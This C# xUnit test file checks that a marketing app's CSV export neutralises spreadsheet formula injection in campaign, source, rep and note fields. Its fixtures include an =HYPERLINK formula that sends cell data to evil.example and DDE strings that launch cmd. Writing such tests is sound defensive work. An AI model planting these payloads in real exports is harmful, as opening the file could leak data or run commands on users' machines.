using System.Globalization;
using CsvHelper;
using Smarketing.Core.Feedback;
using Smarketing.Tests.Feedback;
using Smarketing.Tests.Pipeline;
using Xunit;

namespace Smarketing.Tests.Security;

/// <summary>
/// Campaign, lead id, source, rep and note reach the CSV export from webhooks and CRM feedback: opened in a spreadsheet,
/// none of them may run as a formula (OWASP CSV injection), whatever column it is in; <c>raw=true</c> gives them as stored.
/// </summary>
public sealed class CsvInjectionTests
{
    private const string LeadId = "@lead-csv";
    private const string Campaign = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private const string Source = "+SUM(1+1)*cmd|' /C calc'!A0";
    private const string Rep = "-2+3+cmd|' /C calc'!A0";
    private const string Note = "=cmd|' /C calc'!A0";

    [Fact]
    public async Task Export_HostileValueInEveryTextColumn_EachNeutralisedAndQuotedPerRfc4180_RawGivesThemAsStored()
    {
        await using var app = await FeedbackTesting.StartAsync();
        var lead = Leads.Article(LeadId);
        lead["campaign"] = Campaign;
        lead["source"] = Source;
        Assert.Equal(202, (await app.PostLeadAsync(lead.ToJsonString())).Status);
        await app.HandOffAsync(LeadId);
        var feedback = new System.Text.Json.Nodes.JsonObject
        {
            ["leadId"] = LeadId,
            ["status"] = "DISQUALIFIED",
            ["reasonCode"] = "NOT_A_FIT",
            ["rep"] = Rep,
            ["note"] = Note,
        };
        Assert.Equal(200, (await app.PostFeedbackAsync(feedback.ToJsonString())).Status);

        var safe = Read((await app.GetExportAsync("?from=2026-11-01&to=2026-12-01")).Body);
        var raw = Read((await app.GetExportAsync("?from=2026-11-01&to=2026-12-01&raw=true")).Body);

        var row = Assert.Single(safe);
        Assert.Equal("'" + Campaign, row["campaign"]);
        Assert.Equal("'" + LeadId, row["lead_id"]);
        Assert.Equal("'" + Source, row["source"]);
        Assert.Equal("'" + Rep, row["rep"]);
        Assert.Equal("'" + Note, row["note"]);
        foreach (var (column, value) in row)
        {
            Assert.False(value.Length > 0 && value[0] is '=' or '+' or '@' or '\t' or '\r' or '\n', $"{column} starts a formula: {value}");
            Assert.False(value.Length > 0 && value[0] is '-' && column != "score", $"{column} starts a formula: {value}");
        }

        var stored = Assert.Single(raw);
        Assert.Equal((Campaign, LeadId, Source, Rep, Note), (stored["campaign"], stored["lead_id"], stored["source"], stored["rep"], stored["note"]));
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("  =1+1", "'  =1+1")]
    [InlineData("\n=1+1", "'\n=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    [InlineData("＝1+1", "'＝1+1")]
    [InlineData("-10", "'-10")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    public void Neutralize_FormulaStarts_GetAnApostrophe(string value, string expected) =>
        Assert.Equal(expected, FeedbackCsv.Neutralize(value));

    [Fact]
    public void Line_NegativeScore_StaysANumber_LoneLineFeedInANoteIsQuoted()
    {
        var line = FeedbackCsv.Line(new DisqualificationFeedback
        {
            LeadId = "lead-1",
            Campaign = "c",
            Source = "s",
            ReasonCode = "NOT_A_FIT",
            ReasonCategory = "fit",
            ReasonLabel = "Not a fit",
            Note = "first\nsecond",
            Score = -10,
            ModelVersion = "v1",
            FromStatus = "NEW",
            Rep = null,
            Cycle = 0,
            DisqualifiedAt = new DateTimeOffset(2026, 11, 5, 10, 0, 0, TimeSpan.Zero),
        });

        Assert.Equal("2026-11-05T10:00:00.0000000Z,c,lead-1,0,NEW,NOT_A_FIT,fit,Not a fit,-10,v1,s,,\"first\nsecond\"\r\n", line);
    }

    [Fact]
    public async Task Export_RawNotABoolean_400NamingRaw()
    {
        await using var app = await FeedbackTesting.StartAsync();

        var response = await app.GetExportAsync("?raw=yes");

        Assert.Equal(400, response.Status);
        Assert.Equal(["raw"], response.Json.GetProperty("errors").EnumerateObject().Select(p => p.Name));
    }

    private static List<Dictionary<string, string>> Read(string csv)
    {
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(FeedbackCsv.Columns.ToDictionary(c => c, c => reader.GetField(c)!));
        }

        return rows;
    }
}
